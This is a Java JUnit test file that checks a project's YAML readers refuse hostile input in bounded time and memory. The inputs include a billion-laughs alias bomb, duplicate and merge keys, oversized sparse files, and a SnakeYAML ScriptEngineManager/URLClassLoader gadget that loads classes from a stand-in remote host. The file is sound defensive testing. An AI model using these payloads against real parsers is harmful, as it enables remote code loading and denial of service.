package org.lifeline.fuzz;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.ByteArrayInputStream;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.lifeline.calendar.CalendarException;
import org.lifeline.calendar.CampaignCalendar;
import org.lifeline.engine.LiaisonTable;
import org.lifeline.scenario.Scenario;
import org.lifeline.scenario.ScenarioException;
import org.lifeline.waiver.Waivers;

/**
 * YAML a hostile hand wrote, for every YAML the project reads from a rules folder or a host (waivers, calendar,
 * liaison table, scenarios): each is read or refused in bounded time and memory, never instantiates a class, and
 * never loses an entry silently to a key given twice.
 */
class HostileYamlTest {

    @TempDir
    Path dir;

    private static final Duration QUICK = Duration.ofSeconds(10);

    /** Sixteen levels of three aliases each: 48 aliases (under SnakeYAML's default of 50) naming 3^16 leaves. */
    private static String laughs() {
        StringBuilder b = new StringBuilder("l0: &l0 [lol, lol, lol]\n");
        for (int i = 1; i <= 16; i++) {
            b.append("l").append(i).append(": &l").append(i).append(" [*l").append(i - 1).append(", *l").append(i - 1)
                    .append(", *l").append(i - 1).append("]\n");
        }
        return b.toString();
    }

    private static final String WAIVER = "  - {id: W1, ruleId: T04.HOLLOW_BRANCH, subjectId: B1, reason: 组织待组建, "
            + "reasonText: 秋季组建, requestedBy: B1, approvedBy: GZ, granted: 2018-07-01, expires: 2018-07-31}\n";

    private static final String CALENDAR = "campaign: test\nwarningDays: 7\nmilestones:\n  T04:\n    - {deadline: 2018-06-30}\n";

    // ---- waivers

    @Test
    void waiversBillionLaughsIsRefusedQuickly() {
        Waivers w = assertTimeoutPreemptively(QUICK, () -> Waivers.parse(laughs() + "waivers: *l16\n", "waivers.yaml"));
        assertThat(w.list()).isEmpty();
        assertThat(w.problems()).isNotEmpty();
    }

    @Test
    void waiversGlobalTagsInstantiateNothing() {
        Waivers w = Waivers.parse("waivers:\n  - !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
                + "[\"http://example.invalid/\"]]]]\n", "waivers.yaml");
        assertThat(w.list()).isEmpty();
        assertThat(w.problems()).extracting(Waivers.Problem::toString).singleElement().asString()
                .startsWith("waivers.yaml:2: 豁免文件不是有效的 YAML / not valid YAML: Global tag is not allowed");
    }

    @Test
    void aSecondWaiversListIsRefusedNotSilentlyDroppingTheFirst() {
        Waivers w = Waivers.parse("waivers:\n" + WAIVER + "waivers:\n" + WAIVER.replace("W1", "W2"), "waivers.yaml");
        assertThat(w.problems()).extracting(Waivers.Problem::toString).anySatisfy(p -> assertThat(p)
                .startsWith("waivers.yaml:3: 豁免文件：字段 waivers 重复 / field 'waivers' given twice"));
    }

    @Test
    void aMergeKeyAndASecondDocumentAreRefused() {
        assertThat(Waivers.parse("base: &b {reason: 其他}\nwaivers:\n  - <<: *b\n    id: W1\n", "waivers.yaml").problems())
                .extracting(Waivers.Problem::toString).anySatisfy(p -> assertThat(p).contains("unknown field '<<'"));
        assertThat(Waivers.parse("waivers:\n" + WAIVER + "---\nwaivers:\n" + WAIVER, "waivers.yaml").problems())
                .extracting(Waivers.Problem::toString).singleElement().asString()
                .startsWith("waivers.yaml:3: 豁免文件不是有效的 YAML / not valid YAML: but found another document");
    }

    @Test
    void aWaiversFileOfGigabytesIsOneProblemNotAnOutOfMemoryError() throws Exception {
        Path big = dir.resolve("waivers.yaml");
        try (RandomAccessFile f = new RandomAccessFile(big.toFile(), "rw")) {
            f.setLength(3L * 1024 * 1024 * 1024); // sparse: takes no disk
        }
        Waivers w = Waivers.read(big);
        assertThat(w.list()).isEmpty();
        assertThat(w.problems()).extracting(Waivers.Problem::toString).singleElement().asString()
                .startsWith(big + ": 豁免文件过大 / the waivers file is larger than");
    }

    // ---- calendar

    @Test
    void calendarBillionLaughsIsRefusedQuickly() {
        assertTimeoutPreemptively(QUICK, () -> assertThatThrownBy(() -> CampaignCalendar.parse(
                laughs() + CALENDAR.replace("campaign: test", "campaign: *l16"), "calendar.yaml"))
                .isInstanceOf(CalendarException.class).hasMessageStartingWith("calendar.yaml"));
    }

    @Test
    void calendarKeysGivenTwiceAreRefusedNotOverwritten() {
        assertThatThrownBy(() -> CampaignCalendar.parse(CALENDAR + "  T04:\n    - {deadline: 2018-09-30}\n", "calendar.yaml"))
                .isInstanceOf(CalendarException.class).hasMessageStartingWith("calendar.yaml:6:").hasMessageContaining("duplicate key");
    }

    @Test
    void calendarGlobalTagsInstantiateNothing() {
        assertThatThrownBy(() -> CampaignCalendar.parse(CALENDAR + "settings:\n  x: !!java.io.File [/tmp]\n", "calendar.yaml"))
                .isInstanceOf(CalendarException.class).hasMessageStartingWith("calendar.yaml:7:");
    }

    @Test
    void aCalendarOrLiaisonTableOfGigabytesIsRefusedNotAnOutOfMemoryError() throws Exception {
        Path big = dir.resolve("big.yaml");
        try (RandomAccessFile f = new RandomAccessFile(big.toFile(), "rw")) {
            f.setLength(3L * 1024 * 1024 * 1024); // sparse: takes no disk
        }
        try (var in = java.nio.file.Files.newInputStream(big)) {
            assertThatThrownBy(() -> CampaignCalendar.read(in, "calendar.yaml")).isInstanceOf(CalendarException.class)
                    .hasMessage("calendar.yaml: the calendar is larger than 4 MB");
        }
        try (var in = java.nio.file.Files.newInputStream(big)) {
            assertThatThrownBy(() -> LiaisonTable.read(in, "liaison-groups.yaml")).isInstanceOf(IllegalArgumentException.class)
                    .hasMessage("liaison-groups.yaml: the table is larger than 4 MB");
        }
    }

    // ---- liaison table

    private static LiaisonTable liaison(String yaml) {
        return LiaisonTable.read(new ByteArrayInputStream(yaml.getBytes(StandardCharsets.UTF_8)), "liaison-groups.yaml");
    }

    @Test
    void liaisonBillionLaughsIsRefusedQuickly() {
        assertTimeoutPreemptively(QUICK, () -> assertThatThrownBy(() -> liaison(laughs()
                + "groups:\n  1: {regions: [广州, *l16]}\n  2: {regions: [广州, *l16]}\n"))
                .isInstanceOf(IllegalArgumentException.class).hasMessageStartingWith("liaison-groups.yaml"));
    }

    @Test
    void liaisonGroupGivenTwiceIsRefusedNotOverwritten() {
        assertThatThrownBy(() -> liaison("groups:\n  1: {regions: [广州]}\n  1: {regions: [深圳]}\n"))
                .isInstanceOf(IllegalArgumentException.class).hasMessageStartingWith("liaison-groups.yaml")
                .hasMessageContaining("duplicate key");
    }

    @Test
    void liaisonGlobalTagsInstantiateNothing() {
        assertThatThrownBy(() -> liaison("groups: !!java.util.concurrent.ConcurrentHashMap {}\n"))
                .isInstanceOf(IllegalArgumentException.class).hasMessageStartingWith("liaison-groups.yaml");
    }

    // ---- scenarios

    @Test
    void scenarioBillionLaughsIsRefusedQuickly() {
        assertTimeoutPreemptively(QUICK, () -> assertThatThrownBy(() -> Scenario.parse(laughs()
                + "asOf: 2018-07-15\nfacts: *l16\n", "s.yaml")).isInstanceOf(ScenarioException.class).hasMessageStartingWith("s.yaml"));
    }

    @Test
    void aScenarioKeyGivenTwiceIsRefusedNotSilentlyDroppingTheFirst() {
        assertThatThrownBy(() -> Scenario.parse("name: x\nasOf: 2018-07-15\nexpect:\n  raised: [T04.HOLLOW_BRANCH]\n"
                + "expect:\n  raised: []\n", "s.yaml"))
                .isInstanceOf(ScenarioException.class).hasMessageStartingWith("s.yaml:5:").hasMessageContaining("duplicate key");
    }

    @Test
    void aScenarioFileOfGigabytesIsRefusedNotAnOutOfMemoryError() throws Exception {
        Path big = dir.resolve("s.yaml");
        try (RandomAccessFile f = new RandomAccessFile(big.toFile(), "rw")) {
            f.setLength(3L * 1024 * 1024 * 1024); // sparse: takes no disk
        }
        assertThatThrownBy(() -> Scenario.read(big)).isInstanceOf(ScenarioException.class)
                .hasMessage(big + ": the scenario is larger than 64 MB");
    }

    @Test
    void scenarioGlobalTagsInstantiateNothing() {
        assertThatThrownBy(() -> Scenario.parse("asOf: !!java.io.File [/tmp]\n", "s.yaml"))
                .isInstanceOf(ScenarioException.class).hasMessageStartingWith("s.yaml");
    }
}
